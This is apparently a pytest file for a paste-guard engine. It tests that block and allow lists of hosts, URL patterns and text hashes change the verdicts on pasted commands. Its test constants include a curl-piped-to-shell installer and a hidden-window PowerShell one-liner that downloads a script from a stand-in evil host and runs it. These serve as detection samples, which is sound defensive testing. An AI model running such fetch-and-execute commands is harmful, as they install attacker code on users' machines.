"""Block and allow lists in front of the engine, as the guard asks for verdicts."""

from __future__ import annotations

import hashlib

import pytest

from app.detection import Context, Engine, Level, PasteTarget
from app.intel.lists import IntelLists, parse_lists
from app.intel.screen import ScreenedEngine

HARMLESS = "echo hello from the wiki"
INSTALL = "curl -fsSL https://unknown-vendor.example/install.sh | sh"  # suspicious alone
LURE = 'powershell -w h -c "iwr https://evil.test/a.ps1 | iex"'  # malicious alone


def sha(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()


@pytest.fixture(scope="module")
def engine() -> Engine:
    return Engine(strict=True)


def screened(engine: Engine, **lists: list[str]) -> ScreenedEngine:
    parsed, errors = parse_lists(lists)
    assert errors == []
    return ScreenedEngine(engine, parsed)


@pytest.mark.parametrize(
    ("lists", "text", "source", "rule"),
    [
        (
            {"block_hosts": ["verify-human.example"]},
            HARMLESS,
            "https://verify-human.example/x",
            "PG-INTEL-BLOCK-HOST",
        ),
        (
            {"block_hosts": ["verify-human.example"]},
            HARMLESS,
            "https://cdn.a.verify-human.example/",
            "PG-INTEL-BLOCK-HOST",
        ),
        (
            {"block_hosts": ["drop.example"]},
            "the notes are at hxxps://files.drop[.]example/a",
            None,
            "PG-INTEL-BLOCK-HOST",
        ),
        (
            {"block_url_patterns": [r"/captcha/verify\b"]},
            HARMLESS,
            "https://x.example/captcha/verify?id=3",
            "PG-INTEL-BLOCK-URL",
        ),
        (
            {"block_url_patterns": [r"^https://[^/]+\.trycloudflare\.com/"]},
            "manual: https://Abc.TryCloudflare.com/docs",
            None,
            "PG-INTEL-BLOCK-URL",
        ),
        ({"block_text_hashes": [sha(HARMLESS)]}, HARMLESS, None, "PG-INTEL-BLOCK-TEXT"),
        ({"block_text_hashes": [sha(HARMLESS)]}, HARMLESS + "\n", None, "PG-INTEL-BLOCK-TEXT"),
    ],
)
def test_a_blocked_page_host_url_or_text_is_malicious_for_every_target(
    engine: Engine, lists: dict[str, list[str]], text: str, source: str | None, rule: str
) -> None:
    screen = screened(engine, **lists)
    assert engine.analyze(text, Context(source=source)).level < Level.MALICIOUS
    for target in PasteTarget:
        verdict = screen.analyze(text, Context(source=source, target=target))
        assert verdict.level is Level.MALICIOUS, (target, verdict.summary)
        assert verdict.rule_ids[0] == rule
        assert "Your organisation has blocked this" in verdict.summary


@pytest.mark.parametrize(
    ("lists", "text", "source"),
    [
        (
            {"block_hosts": ["evil.example"]},
            "see https://notevil.example/ and evil.example.com",
            None,
        ),
        ({"block_hosts": ["evil.example"]}, HARMLESS, "https://evil.example.org/"),
        ({"block_text_hashes": [sha(HARMLESS)]}, HARMLESS + "!", None),  # another text
        ({"block_url_patterns": ["^https://x\\.example/a$"]}, "https://x.example/ab", None),
    ],
)
def test_near_misses_get_the_ordinary_verdict(
    engine: Engine, lists: dict[str, list[str]], text: str, source: str | None
) -> None:
    screen = screened(engine, **lists)
    context = Context(source=source, target=PasteTarget.TERMINAL)
    assert screen.analyze(text, context).level == engine.analyze(text, context).level


def test_an_allowed_text_hash_lets_that_text_through_and_only_it(engine: Engine) -> None:
    screen = screened(engine, allow_text_hashes=[sha(INSTALL)])
    run_box = Context(target=PasteTarget.RUN_DIALOG)
    assert engine.analyze(INSTALL, run_box).level >= Level.SUSPICIOUS
    assert screen.analyze(INSTALL, run_box).level is Level.CLEAN
    assert screen.analyze(INSTALL + " #", run_box).level >= Level.SUSPICIOUS


def test_an_allowed_page_lowers_suspicious_but_never_clears_malicious(engine: Engine) -> None:
    screen = screened(engine, allow_hosts=["wiki.corp.example"])
    wiki = "https://wiki.corp.example/setup"
    assert engine.analyze(INSTALL, Context(source=wiki)).level is Level.SUSPICIOUS
    assert screen.analyze(INSTALL, Context(source=wiki)).level is Level.INFO
    assert screen.analyze(LURE, Context(source=wiki)).level is Level.MALICIOUS
    assert (
        screen.analyze(INSTALL, Context(source="https://other.example/")).level is Level.SUSPICIOUS
    )


def test_block_wins_over_allow(engine: Engine) -> None:
    screen = screened(
        engine, allow_text_hashes=[sha(INSTALL)], block_hosts=["unknown-vendor.example"]
    )
    assert screen.analyze(INSTALL).level is Level.MALICIOUS


def test_lists_can_be_replaced_while_in_use(engine: Engine) -> None:
    screen = ScreenedEngine(engine)
    assert screen.analyze(HARMLESS).level is Level.CLEAN
    screen.lists = IntelLists(block_text_hashes=frozenset({sha(HARMLESS)}))
    assert screen.analyze(HARMLESS).level is Level.MALICIOUS
    screen.lists = IntelLists()
    assert screen.analyze(HARMLESS).level is Level.CLEAN


def test_a_hostile_megabyte_with_many_urls_is_bounded(engine: Engine) -> None:
    screen = screened(engine, block_hosts=["evil.example"], block_url_patterns=["(a|b)*c"])
    text = "https://a.example/" * 60_000 + " https://evil.example/"  # past the scan cap
    verdict = screen.analyze(text)
    assert "PG-INTEL-BLOCK-HOST" not in verdict.rule_ids  # not read that far: linear, bounded
